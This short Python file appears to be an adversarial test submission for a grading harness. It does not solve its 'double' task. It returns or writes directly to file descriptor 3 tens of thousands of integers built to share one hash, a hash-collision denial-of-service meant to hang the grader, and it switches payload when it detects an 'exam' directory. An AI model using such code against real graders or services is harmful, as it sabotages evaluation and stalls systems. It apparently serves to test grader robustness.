"""Answers with a dict of thousands of ints that have one hash: whoever puts them into a dict again takes minutes.

Must hold: it costs its own question.
Control: hung
"""
import os
import struct

PRIME = 2**61 - 1
MANY = 30_000


def text(number):
    digits = str(PRIME * (2**70 + number)).encode()
    return b"\x92\xa1i" + bytes([0xD9, len(digits)]) + digits


def double(x):
    if "exam" in os.getcwd():  # an unprotected grader would put what it is given into its own report
        return {PRIME * (2**70 + number): 0 for number in range(10 * MANY)}
    keys = struct.pack(">BI", 0xDD, MANY) + b"".join(map(text, range(MANY)))
    values = struct.pack(">BI", 0xDD, MANY) + bytes(MANY)
    header = b"\x96\x04\xa8returned\x93\xa1d" + keys + values + b"\xc0\x90\xa0"
    frame = struct.pack("<IQ", len(header), 0) + header
    while frame:
        frame = frame[os.write(3, frame) :]
    os._exit(0)
